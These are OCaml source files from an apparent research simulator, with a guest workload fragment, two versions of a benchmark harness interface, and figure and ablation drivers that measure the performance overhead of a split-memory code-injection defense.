    ~rodata:[ L "sched"; Words words ]
    ~data:(fun ~lbl:_ -> [ L "req"; Space 8 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (ESI, lbl "sched"));
        I (Mov_ri (EDI, n));
        L "req_loop";
        I (Cmp_ri (EDI, 0));
        I (Jz (Lbl "done"));
      ]
      @ pace_prologue
      @ [
          (* stamp the schedule's page offset into the 4-byte request *)
          I (Load (EAX, ESI, 0));
          I (Mov_ri (EBX, lbl "req"));
          I (Store (EBX, 0, EAX));
        ]
      @ Guest.sys_write_imm ~fd:1 ~buf:(lbl "req") ~len:4 ()
      @ [
          I (Cmp_ri (EAX, 1));
          I (Jl (Lbl "done"));
          (* drain the full response *)
          I (Mov_ri (EBP, size));
          L "rd";
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, lbl "bss"));
          I (Mov_ri (EDX, 4096));
          I (Int 0x80);
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "done"));
          I (Sub (EBP, EAX));
          I (Cmp_ri (EBP, 1));
          I (Jge (Lbl "rd"));
        ]
      @ pace_epilogue
      @ [ I (Add_ri (ESI, 8)); I (Add_ri (EDI, -1)); I (Jmp (Lbl "req_loop")); L "done" ]
      @ Guest.sys_exit 0)
    ~entry:"main" ()
