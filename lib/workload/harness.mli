(** Benchmark execution harness, redesigned around first-class {e experiment
    specs}: a {!spec} is a pure value describing a machine to build and run
    (defense, frames, fuel, guests, pipe wiring, paging mode, seed); {!run}
    executes one, {!run_fleet} executes a list domain-parallel via
    {!Fleet}. The description/execution split is what lets the paper's
    whole evaluation grid — independent simulated machines — fan out
    across cores with bit-identical output. *)

type result = {
  label : string;
  defense : string;
  cycles : int;
  insns : int;
  traps : int;
  split_faults : int;
  single_steps : int;
  ctx_switches : int;
  peak_frames : int;
  itlb_misses : int;
  dtlb_misses : int;
}

exception Did_not_finish of string
(** Raised when a workload deadlocks or exhausts its fuel. *)

(** {2 Experiment specs} *)

type guest = {
  image : Kernel.Image.t;
  eager : bool;  (** eager page mapping/duplication (prototype behaviour) *)
  protected : bool;  (** [false]: plain von Neumann view (§3.3.1 opt-out) *)
}

type wiring =
  | Isolated  (** no pipes between guests *)
  | Pipeline of { capacity : int option }
      (** cross-wire consecutive guest pairs' consoles (client/server
          workloads); [capacity] bounds the pipes, forcing blocking I/O *)

type spec = {
  label : string;
  defense : Defense.t;
  protection : Kernel.Protection.t option;
      (** overrides [Defense.to_protection defense] when set *)
  tlb_fill : Hw.Mmu.fill_mode option;
      (** overrides [Defense.tlb_fill defense] when set *)
  frames : int;
  fuel : int;
  quantum : int option;
  seed : int option;  (** kernel PRNG seed (stack jitter) *)
  itlb_capacity : int option;
  dtlb_capacity : int option;
  tlb_policy : Hw.Tlb.policy option;
      (** TLB replacement policy override (default hardware {!Hw.Tlb.Fifo}) *)
  caches : bool;
  share_images : bool;
      (** loader COW: share read-only image frames across identical spawns
          (default [false]) *)
  wiring : wiring;
  guests : guest list;
}

val guest : ?eager:bool -> ?protected:bool -> Kernel.Image.t -> guest
(** Defaults: demand paging, protected. *)

val spec :
  ?label:string ->
  ?protection:Kernel.Protection.t ->
  ?tlb_fill:Hw.Mmu.fill_mode ->
  ?frames:int ->
  ?fuel:int ->
  ?quantum:int ->
  ?seed:int ->
  ?itlb_capacity:int ->
  ?dtlb_capacity:int ->
  ?tlb_policy:Hw.Tlb.policy ->
  ?caches:bool ->
  ?share_images:bool ->
  ?wiring:wiring ->
  defense:Defense.t ->
  guest list ->
  spec
(** Defaults: [frames] 16384, [fuel] 10^8, machine defaults for the rest,
    [label] the first guest's image name. @raise Invalid_argument on an
    empty guest list. *)

val single :
  ?label:string ->
  ?frames:int ->
  ?fuel:int ->
  ?eager:bool ->
  ?protected:bool ->
  ?seed:int ->
  defense:Defense.t ->
  Kernel.Image.t ->
  spec
(** One isolated guest. *)

val pair :
  ?label:string ->
  ?frames:int ->
  ?fuel:int ->
  ?capacity:int ->
  ?seed:int ->
  defense:Defense.t ->
  Kernel.Image.t ->
  Kernel.Image.t ->
  spec
(** Two guests with cross-wired consoles. *)

(** {2 Execution} *)

val build : ?obs:Obs.t -> spec -> Kernel.Os.t
(** Materialize the machine: create the kernel, spawn the guests, wire the
    pipes. Does not run it. *)

val run : ?obs:Obs.t -> spec -> result
(** Build and run to completion. @raise Did_not_finish on deadlock or fuel
    exhaustion. *)

val run_k : ?obs:Obs.t -> ?tune:(Kernel.Os.t -> unit) -> spec -> result * Kernel.Os.t
(** Like {!run}, but also returns the kernel, whose trace/metric state
    ([obs]) and hardware statistics remain inspectable. [tune] runs on the
    freshly built machine before it does — e.g. installing a syscall
    tracer. *)

val run_fleet :
  ?obs:Obs.t -> ?jobs:int -> spec list -> (result, Fleet.error) Stdlib.result list
(** Execute the specs on a {!Fleet} worker pool ([jobs] domains, default
    [Fleet.default_jobs ()]); results in submission order, so derived
    output is bit-identical for every [jobs]. A job that crashes or runs
    out of fuel yields [Error] without disturbing its siblings. Each job
    runs with a private obs sink; when [obs] is live, per-job metrics are
    folded into it in submission order ({!Obs.merge_metrics}) and the
    fleet records its own [fleet.*] metrics. *)

val run_fleet_stats :
  ?obs:Obs.t ->
  ?jobs:int ->
  spec list ->
  (result, Fleet.error) Stdlib.result list * Fleet.stats
(** Like {!run_fleet}, also returning wall-clock stats (per-job times,
    observed speedup). *)

val run_fleet_exn : ?obs:Obs.t -> ?jobs:int -> spec list -> result list
(** Like {!run_fleet} but re-raising the first failure as
    {!Did_not_finish} — for experiments whose every machine must finish. *)

(** {2 Legacy entrypoints (thin wrappers over specs)} *)

val run_single :
  ?frames:int ->
  ?fuel:int ->
  ?eager:bool ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  result
(** [run (single ...)]. *)

val run_single_k :
  ?frames:int ->
  ?fuel:int ->
  ?eager:bool ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  result * Kernel.Os.t

val run_pair :
  ?frames:int ->
  ?fuel:int ->
  ?capacity:int ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  Kernel.Image.t ->
  result
(** [run (pair ...)]: spawn two images, cross-wire their consoles, run to
    completion. *)

val run_pair_k :
  ?frames:int ->
  ?fuel:int ->
  ?capacity:int ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  Kernel.Image.t ->
  result * Kernel.Os.t

(** {2 Derived statistics} *)

val normalized : baseline:result -> result -> float
(** [baseline.cycles / result.cycles]: 0.9 = "runs at 90% of full speed",
    the paper's normalized-performance metric. *)

val geomean : float list -> float
(** Geometric mean (Unixbench-style index). @raise Invalid_argument on []. *)

val snapshot : label:string -> defense:string -> Kernel.Os.t -> result
