(** Benchmark execution harness: run guest workloads to completion under a
    defense and collect the cycle/event counters the figures are built
    from. *)

type result = {
  label : string;
  defense : string;
  cycles : int;
  insns : int;
  traps : int;
  split_faults : int;
  single_steps : int;
  ctx_switches : int;
  peak_frames : int;
  itlb_misses : int;
  dtlb_misses : int;
}

exception Did_not_finish of string
(** Raised when a workload deadlocks or exhausts its fuel. *)

val run_single :
  ?frames:int ->
  ?fuel:int ->
  ?eager:bool ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  result

val run_single_k :
  ?frames:int ->
  ?fuel:int ->
  ?eager:bool ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  result * Kernel.Os.t
(** Like {!run_single}, but also returns the kernel, whose trace/metric
    state ([obs]) and hardware statistics remain inspectable. *)

val run_pair :
  ?frames:int ->
  ?fuel:int ->
  ?capacity:int ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  Kernel.Image.t ->
  result
(** Spawn two images, cross-wire their consoles ([capacity] bounds the
    pipes, forcing blocking I/O), run to completion. *)

val run_pair_k :
  ?frames:int ->
  ?fuel:int ->
  ?capacity:int ->
  ?obs:Obs.t ->
  defense:Defense.t ->
  Kernel.Image.t ->
  Kernel.Image.t ->
  result * Kernel.Os.t

val normalized : baseline:result -> result -> float
(** [baseline.cycles / result.cycles]: 0.9 = "runs at 90% of full speed",
    the paper's normalized-performance metric. *)

val geomean : float list -> float
(** Geometric mean (Unixbench-style index). @raise Invalid_argument on []. *)

val snapshot : label:string -> defense:string -> Kernel.Os.t -> result
