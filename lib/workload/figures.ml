(* The paper's performance experiments (Figs. 6–9) as data producers. Each
   function runs the relevant workloads under the unprotected kernel and the
   protected configuration(s) and reports normalized performance. *)

type point = { x : string; value : float }

let kb n = n * 1024

(* Workload sizes scaled so the full evaluation runs in seconds while
   keeping every ratio meaningful (documented in EXPERIMENTS.md). *)
let apache_requests = 25
let gzip_size = kb 48
let nbench_iters = 60
let syscall_iters = 2500
let pipe_iters = 800
let ctxsw_iters = 250
let spawn_iters = 60
let fscopy_passes = 3
let fscopy_size = kb 24

let run_apache ?obs ~defense ~size ~requests () =
  Harness.run_pair ?obs ~defense
    (Guests.apache_server ~size ())
    (Guests.apache_client ~size ~requests ())

let apache_normalized ~defense ~size ~requests =
  let base = run_apache ~defense:Defense.unprotected ~size ~requests () in
  let prot = run_apache ~defense ~size ~requests () in
  Harness.normalized ~baseline:base prot

let single_normalized ~defense image =
  let base = Harness.run_single ~defense:Defense.unprotected image in
  let prot = Harness.run_single ~defense image in
  Harness.normalized ~baseline:base prot

let run_gzip ?obs ~defense ~size () =
  Harness.run_pair ?obs ~defense ~capacity:4096
    (Guests.gzip_disk ~size ~block:4096 ())
    (Guests.gzip ~size ())

let gzip_normalized ~defense ~size =
  let base = run_gzip ~defense:Defense.unprotected ~size () in
  let prot = run_gzip ~defense ~size () in
  Harness.normalized ~baseline:base prot

let run_ctxsw ?obs ~defense ~iters () =
  Harness.run_pair ?obs ~defense (Guests.ctxsw_ping ~iters ()) (Guests.ctxsw_pong ())

let ctxsw_normalized ~defense ~iters =
  let base = run_ctxsw ~defense:Defense.unprotected ~iters () in
  let prot = run_ctxsw ~defense ~iters () in
  Harness.normalized ~baseline:base prot

(* nbench reports per-test scores; the paper quotes the slowest. *)
let nbench_results ~defense =
  List.map
    (fun (name, image) -> (name, single_normalized ~defense image))
    (Guests.nbench_suite ~scale:(nbench_iters / 12))

let nbench_slowest ~defense =
  List.fold_left (fun acc (_, v) -> Float.min acc v) infinity (nbench_results ~defense)

(* The Unixbench pieces; the suite index is their geometric mean, like
   Unixbench's own scoring. *)
let unixbench_pieces ~defense =
  let single name image =
    (name, single_normalized ~defense image)
  in
  [
    single "dhrystone-like" (Guests.nbench ~iters:(nbench_iters / 2) ());
    single "syscall" (Guests.syscall_bench ~iters:syscall_iters ());
    single "pipe throughput" (Guests.pipe_throughput ~iters:pipe_iters ());
    ("pipe-based ctxsw", ctxsw_normalized ~defense ~iters:ctxsw_iters);
    single "process creation" (Guests.spawn_bench ~iters:spawn_iters ());
    single "fs buffer copy" (Guests.fscopy ~passes:fscopy_passes ~size:fscopy_size ());
  ]

let unixbench_index ~defense =
  Harness.geomean (List.map snd (unixbench_pieces ~defense))

(* Fig. 6: Apache 32KB, gzip, nbench, Unixbench under stand-alone split. *)
let fig6 ?(defense = Defense.split_standalone) () =
  [
    {
      x = "Apache (32KB page)";
      value = apache_normalized ~defense ~size:(kb 32) ~requests:apache_requests;
    };
    { x = "gzip"; value = gzip_normalized ~defense ~size:gzip_size };
    { x = "nbench (slowest test)"; value = nbench_slowest ~defense };
    { x = "Unixbench index"; value = unixbench_index ~defense };
  ]

(* Fig. 7: the contrived stress tests. *)
let fig7 ?(defense = Defense.split_standalone) () =
  [
    {
      x = "Unixbench pipe-based ctxsw";
      value = ctxsw_normalized ~defense ~iters:ctxsw_iters;
    };
    {
      x = "Apache (1KB page)";
      value = apache_normalized ~defense ~size:(kb 1) ~requests:apache_requests;
    };
  ]

(* Fig. 8: Apache throughput across served page sizes. *)
let fig8 ?(defense = Defense.split_standalone) ?(sizes_kb = [ 1; 2; 4; 8; 16; 32; 64; 128 ]) () =
  List.map
    (fun size_kb ->
      {
        x = Fmt.str "%dKB" size_kb;
        value = apache_normalized ~defense ~size:(kb size_kb) ~requests:apache_requests;
      })
    sizes_kb

(* Fig. 9: pipe-based context switching with only a fraction of pages
   split, the rest protected by the execute-disable bit. *)
let fig9 ?(fractions = [ 0; 10; 20; 30; 40; 50; 60; 70; 80; 90; 100 ]) () =
  List.map
    (fun pct ->
      {
        x = Fmt.str "%d%%" pct;
        value = ctxsw_normalized ~defense:(Defense.split_fraction pct) ~iters:ctxsw_iters;
      })
    fractions

(* Memory-overhead ablation: the prototype's eager splitting doubles the
   resident image; demand paging (§5.1's proposed optimization) only
   duplicates touched pages. *)
let memory_overhead () =
  let image = Guests.sparse ~data_pages:32 ~touch_pages:2 () in
  let unprot = Harness.run_single ~defense:Defense.unprotected ~eager:true image in
  let eager = Harness.run_single ~defense:Defense.split_standalone ~eager:true image in
  let demand = Harness.run_single ~defense:Defense.split_standalone ~eager:false image in
  (unprot.peak_frames, eager.peak_frames, demand.peak_frames)

(* ITLB-load-method ablation: the paper's surprising §4.2.4 finding that a
   ret-gadget ITLB load is slower than single-stepping. With the cache
   timing model enabled, the slowdown emerges mechanistically: each gadget
   plant/restore is a store into a cached instruction line, paying the
   coherency invalidation + pipeline flush. *)
let itlb_method_ablation ?(iters = 250) () =
  let run itlb_load =
    let protection = Split_memory.protection ~itlb_load () in
    let k = Kernel.Os.create ~caches:true ~protection () in
    let ping = Kernel.Os.spawn k (Guests.ctxsw_ping ~iters ()) in
    let pong = Kernel.Os.spawn k (Guests.ctxsw_pong ()) in
    Kernel.Os.connect k ping pong;
    match Kernel.Os.run ~fuel:100_000_000 k with
    | Kernel.Os.All_exited -> (Kernel.Os.cost k).cycles
    | _ -> raise (Harness.Did_not_finish "itlb ablation")
  in
  (run Split_memory.Single_step, run Split_memory.Ret_gadget)

(* Software-managed-TLB port ablation (paper §4.7): the same protection on
   SPARC-style hardware needs no single-stepping and no walk tricks, so the
   overhead should be noticeably lower. Each configuration is normalized
   against the stock kernel on its own hardware. *)
(* All three implementation mechanisms of the split architecture, on the
   context-switch stress test, each normalized to the stock kernel on its
   own hardware: the software x86 exploit (Algorithms 1-2), the §4.7
   software-TLB port, and the §3.3.1 dual-pagetable hardware. *)
let mechanisms_ablation ?(iters = ctxsw_iters) () =
  let ratio ~base ~prot =
    let b = run_ctxsw ~defense:base ~iters () in
    let p = run_ctxsw ~defense:prot ~iters () in
    Harness.normalized ~baseline:b p
  in
  [
    ("x86 tlb-desync (software patch)",
     ratio ~base:Defense.unprotected ~prot:Defense.split_standalone);
    ("soft-tlb port (S4.7)",
     ratio ~base:Defense.unprotected_soft_tlb ~prot:Defense.split_soft_tlb);
    ("dual-CR3 hardware (S3.3.1)",
     ratio ~base:Defense.unprotected ~prot:Defense.split_dual_cr3);
  ]

let soft_tlb_ablation ?(iters = ctxsw_iters) () =
  let ratio ~base ~prot =
    let b = run_ctxsw ~defense:base ~iters () in
    let p = run_ctxsw ~defense:prot ~iters () in
    Harness.normalized ~baseline:b p
  in
  let desync = ratio ~base:Defense.unprotected ~prot:Defense.split_standalone in
  let soft = ratio ~base:Defense.unprotected_soft_tlb ~prot:Defense.split_soft_tlb in
  (desync, soft)

(* Design-space sweep: how the stand-alone overhead depends on TLB reach.
   Larger TLBs do not help — every context switch flushes them, and it is
   the refill (a trap per split page) that costs; the sweep demonstrates
   the overhead is flush-driven, not capacity-driven. *)
let tlb_capacity_sweep ?(capacities = [ 8; 16; 32; 64; 128 ]) ?(iters = 150) () =
  List.map
    (fun cap ->
      let run defense =
        let protection = Defense.to_protection defense in
        let k =
          Kernel.Os.create ~itlb_capacity:cap ~dtlb_capacity:cap ~protection ()
        in
        let ping = Kernel.Os.spawn k (Guests.ctxsw_ping ~iters ()) in
        let pong = Kernel.Os.spawn k (Guests.ctxsw_pong ()) in
        Kernel.Os.connect k ping pong;
        match Kernel.Os.run ~fuel:100_000_000 k with
        | Kernel.Os.All_exited -> (Kernel.Os.cost k).cycles
        | _ -> raise (Harness.Did_not_finish "tlb sweep")
      in
      let base = run Defense.unprotected in
      let prot = run Defense.split_standalone in
      (cap, float_of_int base /. float_of_int prot))
    capacities
