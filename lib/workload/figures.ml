(* The paper's performance experiments (Figs. 6–9) as data producers. Each
   figure assembles the specs for every machine it needs — protected
   configurations and their unprotected baselines — runs them through the
   fleet ([jobs] worker domains, default 1), and derives its points from
   the results. Fleet results come back in submission order, so every
   figure is bit-identical for any [jobs]. *)

type point = { x : string; value : float }

let kb n = n * 1024

(* Workload sizes scaled so the full evaluation runs in seconds while
   keeping every ratio meaningful (documented in EXPERIMENTS.md). *)
let apache_requests = 25
let gzip_size = kb 48
let nbench_iters = 60
let syscall_iters = 2500
let pipe_iters = 800
let ctxsw_iters = 250
let spawn_iters = 60
let fscopy_passes = 3
let fscopy_size = kb 24

(* --- spec builders ------------------------------------------------------- *)

let apache_spec ~defense ~size ~requests =
  Harness.pair ~defense
    (Guests.apache_server ~size ())
    (Guests.apache_client ~size ~requests ())

let gzip_spec ~defense ~size =
  Harness.pair ~defense ~capacity:4096
    (Guests.gzip_disk ~size ~block:4096 ())
    (Guests.gzip ~size ())

let ctxsw_spec ~defense ~iters =
  Harness.pair ~defense (Guests.ctxsw_ping ~iters ()) (Guests.ctxsw_pong ())

(* --- single-machine runners ---------------------------------------------- *)

let run_apache ?obs ~defense ~size ~requests () =
  Harness.run ?obs (apache_spec ~defense ~size ~requests)

let run_gzip ?obs ~defense ~size () = Harness.run ?obs (gzip_spec ~defense ~size)

let run_ctxsw ?obs ~defense ~iters () = Harness.run ?obs (ctxsw_spec ~defense ~iters)

(* --- keyed fleet execution ----------------------------------------------- *)

(* Run a keyed spec list through the fleet and return a lookup; figures
   must see every machine finish, so job failures re-raise. *)
let lookup_of ?obs ?jobs keyed =
  let results = Harness.run_fleet_exn ?obs ?jobs (List.map snd keyed) in
  let tbl = Hashtbl.create (List.length keyed) in
  List.iter2 (fun (key, _) r -> Hashtbl.replace tbl key r) keyed results;
  fun key ->
    match Hashtbl.find_opt tbl key with
    | Some r -> r
    | None -> invalid_arg ("Figures: unknown key " ^ key)

(* [base]/[prot] spec pair under a key, and the normalized ratio of their
   results — the unit every figure is built from. *)
let vs key mk ~defense =
  [ (key ^ "|base", mk Defense.unprotected); (key ^ "|prot", mk defense) ]

let nrm look key =
  Harness.normalized ~baseline:(look (key ^ "|base")) (look (key ^ "|prot"))

let apache_normalized ?jobs ~defense ~size ~requests () =
  let look =
    lookup_of ?jobs (vs "apache" ~defense (fun d -> apache_spec ~defense:d ~size ~requests))
  in
  nrm look "apache"

let single_normalized ?jobs ~defense image =
  let look =
    lookup_of ?jobs (vs "single" ~defense (fun d -> Harness.single ~defense:d image))
  in
  nrm look "single"

let gzip_normalized ?jobs ~defense ~size () =
  let look = lookup_of ?jobs (vs "gzip" ~defense (fun d -> gzip_spec ~defense:d ~size)) in
  nrm look "gzip"

let ctxsw_normalized ?jobs ~defense ~iters () =
  let look =
    lookup_of ?jobs (vs "ctxsw" ~defense (fun d -> ctxsw_spec ~defense:d ~iters))
  in
  nrm look "ctxsw"

(* --- nbench / Unixbench -------------------------------------------------- *)

let nbench_specs ~defense =
  List.concat_map
    (fun (name, image) ->
      vs ("nbench:" ^ name) ~defense (fun d -> Harness.single ~defense:d image))
    (Guests.nbench_suite ~scale:(nbench_iters / 12))

let nbench_names () = List.map fst (Guests.nbench_suite ~scale:1)

(* nbench reports per-test scores; the paper quotes the slowest. *)
let nbench_results ?jobs ~defense () =
  let look = lookup_of ?jobs (nbench_specs ~defense) in
  List.map (fun name -> (name, nrm look ("nbench:" ^ name))) (nbench_names ())

let nbench_slowest_of look =
  List.fold_left
    (fun acc name -> Float.min acc (nrm look ("nbench:" ^ name)))
    infinity (nbench_names ())

(* The Unixbench pieces; the suite index is their geometric mean, like
   Unixbench's own scoring. *)
let unixbench_parts ~defense =
  [
    ( "dhrystone-like",
      vs "ub:dhry" ~defense (fun d ->
          Harness.single ~defense:d (Guests.nbench ~iters:(nbench_iters / 2) ())) );
    ( "syscall",
      vs "ub:syscall" ~defense (fun d ->
          Harness.single ~defense:d (Guests.syscall_bench ~iters:syscall_iters ())) );
    ( "pipe throughput",
      vs "ub:pipe" ~defense (fun d ->
          Harness.single ~defense:d (Guests.pipe_throughput ~iters:pipe_iters ())) );
    ( "pipe-based ctxsw",
      vs "ub:ctxsw" ~defense (fun d -> ctxsw_spec ~defense:d ~iters:ctxsw_iters) );
    ( "process creation",
      vs "ub:spawn" ~defense (fun d ->
          Harness.single ~defense:d (Guests.spawn_bench ~iters:spawn_iters ())) );
    ( "fs buffer copy",
      vs "ub:fscopy" ~defense (fun d ->
          Harness.single ~defense:d (Guests.fscopy ~passes:fscopy_passes ~size:fscopy_size ())) );
  ]

let unixbench_keys = [ "ub:dhry"; "ub:syscall"; "ub:pipe"; "ub:ctxsw"; "ub:spawn"; "ub:fscopy" ]

let unixbench_pieces_of look =
  List.map2
    (fun (name, _) key -> (name, nrm look key))
    (unixbench_parts ~defense:Defense.unprotected)
    unixbench_keys

let unixbench_pieces ?jobs ~defense () =
  let look = lookup_of ?jobs (List.concat_map snd (unixbench_parts ~defense)) in
  unixbench_pieces_of look

let unixbench_index ?jobs ~defense () =
  Harness.geomean (List.map snd (unixbench_pieces ?jobs ~defense ()))

(* --- Fig. 6: Apache 32KB, gzip, nbench, Unixbench under stand-alone split. *)
let fig6 ?obs ?jobs ?(defense = Defense.split_standalone) () =
  let keyed =
    vs "apache" ~defense (fun d ->
        apache_spec ~defense:d ~size:(kb 32) ~requests:apache_requests)
    @ vs "gzip" ~defense (fun d -> gzip_spec ~defense:d ~size:gzip_size)
    @ nbench_specs ~defense
    @ List.concat_map snd (unixbench_parts ~defense)
  in
  let look = lookup_of ?obs ?jobs keyed in
  [
    { x = "Apache (32KB page)"; value = nrm look "apache" };
    { x = "gzip"; value = nrm look "gzip" };
    { x = "nbench (slowest test)"; value = nbench_slowest_of look };
    {
      x = "Unixbench index";
      value = Harness.geomean (List.map snd (unixbench_pieces_of look));
    };
  ]

(* Fig. 7: the contrived stress tests. *)
let fig7 ?obs ?jobs ?(defense = Defense.split_standalone) () =
  let keyed =
    vs "ctxsw" ~defense (fun d -> ctxsw_spec ~defense:d ~iters:ctxsw_iters)
    @ vs "apache1k" ~defense (fun d ->
          apache_spec ~defense:d ~size:(kb 1) ~requests:apache_requests)
  in
  let look = lookup_of ?obs ?jobs keyed in
  [
    { x = "Unixbench pipe-based ctxsw"; value = nrm look "ctxsw" };
    { x = "Apache (1KB page)"; value = nrm look "apache1k" };
  ]

(* Fig. 8: Apache throughput across served page sizes. *)
let fig8 ?obs ?jobs ?(defense = Defense.split_standalone)
    ?(sizes_kb = [ 1; 2; 4; 8; 16; 32; 64; 128 ]) () =
  let keyed =
    List.concat_map
      (fun size_kb ->
        vs (Fmt.str "apache%dk" size_kb) ~defense (fun d ->
            apache_spec ~defense:d ~size:(kb size_kb) ~requests:apache_requests))
      sizes_kb
  in
  let look = lookup_of ?obs ?jobs keyed in
  List.map
    (fun size_kb ->
      { x = Fmt.str "%dKB" size_kb; value = nrm look (Fmt.str "apache%dk" size_kb) })
    sizes_kb

(* Fig. 9: pipe-based context switching with only a fraction of pages
   split, the rest protected by the execute-disable bit. The unprotected
   baseline machine is identical for every fraction, so it runs once. *)
let fig9 ?obs ?jobs ?(fractions = [ 0; 10; 20; 30; 40; 50; 60; 70; 80; 90; 100 ]) () =
  let keyed =
    ("base", ctxsw_spec ~defense:Defense.unprotected ~iters:ctxsw_iters)
    :: List.map
         (fun pct ->
           ( Fmt.str "split%d" pct,
             ctxsw_spec ~defense:(Defense.split_fraction pct) ~iters:ctxsw_iters ))
         fractions
  in
  let look = lookup_of ?obs ?jobs keyed in
  List.map
    (fun pct ->
      {
        x = Fmt.str "%d%%" pct;
        value = Harness.normalized ~baseline:(look "base") (look (Fmt.str "split%d" pct));
      })
    fractions

(* Memory-overhead ablation: the prototype's eager splitting doubles the
   resident image; demand paging (§5.1's proposed optimization) only
   duplicates touched pages. *)
let memory_overhead ?jobs () =
  let image = Guests.sparse ~data_pages:32 ~touch_pages:2 () in
  match
    Harness.run_fleet_exn ?jobs
      [
        Harness.single ~label:"sparse/unprot" ~eager:true ~defense:Defense.unprotected image;
        Harness.single ~label:"sparse/eager" ~eager:true ~defense:Defense.split_standalone
          image;
        Harness.single ~label:"sparse/demand" ~defense:Defense.split_standalone image;
      ]
  with
  | [ unprot; eager; demand ] ->
    (unprot.peak_frames, eager.peak_frames, demand.peak_frames)
  | _ -> assert false

(* ITLB-load-method ablation: the paper's surprising §4.2.4 finding that a
   ret-gadget ITLB load is slower than single-stepping. With the cache
   timing model enabled, the slowdown emerges mechanistically: each gadget
   plant/restore is a store into a cached instruction line, paying the
   coherency invalidation + pipeline flush. *)
let itlb_method_ablation ?jobs ?(iters = 250) () =
  let spec_of itlb_load name =
    Harness.spec ~label:("itlb-" ^ name)
      ~protection:(Split_memory.protection ~itlb_load ())
      ~caches:true
      ~wiring:(Harness.Pipeline { capacity = None })
      ~defense:Defense.split_standalone
      [ Harness.guest (Guests.ctxsw_ping ~iters ()); Harness.guest (Guests.ctxsw_pong ()) ]
  in
  match
    Harness.run_fleet_exn ?jobs
      [ spec_of Split_memory.Single_step "single-step";
        spec_of Split_memory.Ret_gadget "ret-gadget" ]
  with
  | [ single_step; ret_gadget ] -> (single_step.cycles, ret_gadget.cycles)
  | _ -> assert false

(* All three implementation mechanisms of the split architecture, on the
   context-switch stress test, each normalized to the stock kernel on its
   own hardware: the software x86 exploit (Algorithms 1-2), the §4.7
   software-TLB port, and the §3.3.1 dual-pagetable hardware. *)
let mechanisms_ablation ?jobs ?(iters = ctxsw_iters) () =
  let rows =
    [
      ("x86 tlb-desync (software patch)", Defense.unprotected, Defense.split_standalone);
      ("soft-tlb port (S4.7)", Defense.unprotected_soft_tlb, Defense.split_soft_tlb);
      ("dual-CR3 hardware (S3.3.1)", Defense.unprotected, Defense.split_dual_cr3);
    ]
  in
  let keyed =
    List.concat_map
      (fun (name, base, prot) ->
        [
          (name ^ "|base", ctxsw_spec ~defense:base ~iters);
          (name ^ "|prot", ctxsw_spec ~defense:prot ~iters);
        ])
      rows
  in
  let look = lookup_of ?jobs keyed in
  List.map (fun (name, _, _) -> (name, nrm look name)) rows

let soft_tlb_ablation ?jobs ?(iters = ctxsw_iters) () =
  match mechanisms_ablation ?jobs ~iters () with
  | (_, desync) :: (_, soft) :: _ -> (desync, soft)
  | _ -> assert false

(* Design-space sweep: how the stand-alone overhead depends on TLB reach.
   Larger TLBs do not help — every context switch flushes them, and it is
   the refill (a trap per split page) that costs; the sweep demonstrates
   the overhead is flush-driven, not capacity-driven. *)
let tlb_capacity_sweep ?jobs ?(capacities = [ 8; 16; 32; 64; 128 ]) ?(iters = 150) () =
  let spec_of cap defense =
    Harness.spec
      ~label:(Fmt.str "tlb%d" cap)
      ~itlb_capacity:cap ~dtlb_capacity:cap
      ~wiring:(Harness.Pipeline { capacity = None })
      ~defense
      [ Harness.guest (Guests.ctxsw_ping ~iters ()); Harness.guest (Guests.ctxsw_pong ()) ]
  in
  let keyed =
    List.concat_map
      (fun cap ->
        [
          (Fmt.str "tlb%d|base" cap, spec_of cap Defense.unprotected);
          (Fmt.str "tlb%d|prot" cap, spec_of cap Defense.split_standalone);
        ])
      capacities
  in
  let look = lookup_of ?jobs keyed in
  List.map (fun cap -> (cap, nrm look (Fmt.str "tlb%d" cap))) capacities
