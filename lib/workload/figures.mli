(** The paper's performance experiments (Figs. 6–9) and ablations as data
    producers; rendering lives in [bench/main.ml]. *)

type point = { x : string; value : float }

val apache_requests : int
val gzip_size : int
val nbench_iters : int
val ctxsw_iters : int

val run_apache :
  ?obs:Obs.t -> defense:Defense.t -> size:int -> requests:int -> unit -> Harness.result
val apache_normalized : defense:Defense.t -> size:int -> requests:int -> float
val single_normalized : defense:Defense.t -> Kernel.Image.t -> float
val run_gzip : ?obs:Obs.t -> defense:Defense.t -> size:int -> unit -> Harness.result
val gzip_normalized : defense:Defense.t -> size:int -> float
val run_ctxsw : ?obs:Obs.t -> defense:Defense.t -> iters:int -> unit -> Harness.result
val ctxsw_normalized : defense:Defense.t -> iters:int -> float

val nbench_results : defense:Defense.t -> (string * float) list
(** Normalized score per nbench kernel. *)

val nbench_slowest : defense:Defense.t -> float

val unixbench_pieces : defense:Defense.t -> (string * float) list
(** Normalized score per Unixbench piece. *)

val unixbench_index : defense:Defense.t -> float
(** Geometric mean of the pieces, Unixbench-style. *)

val fig6 : ?defense:Defense.t -> unit -> point list
(** Apache-32KB, gzip, nbench, Unixbench index under stand-alone split. *)

val fig7 : ?defense:Defense.t -> unit -> point list
(** The contrived stress tests: pipe-based ctxsw and Apache-1KB. *)

val fig8 : ?defense:Defense.t -> ?sizes_kb:int list -> unit -> point list
(** Apache throughput across served page sizes. *)

val fig9 : ?fractions:int list -> unit -> point list
(** Pipe-based ctxsw with a fraction of pages split, the rest NX. *)

val memory_overhead : unit -> int * int * int
(** Peak frames: (unprotected eager, split eager, split demand). *)

val itlb_method_ablation : ?iters:int -> unit -> int * int
(** Pipe-ctxsw cycles: (single-step ITLB load, ret-gadget variant). *)

val mechanisms_ablation : ?iters:int -> unit -> (string * float) list
(** Normalized ctxsw performance of each implementation mechanism
    (tlb-desync software patch, §4.7 soft-TLB port, §3.3.1 dual-CR3
    hardware), each against the stock kernel on its own hardware. *)

val tlb_capacity_sweep : ?capacities:int list -> ?iters:int -> unit -> (int * float) list
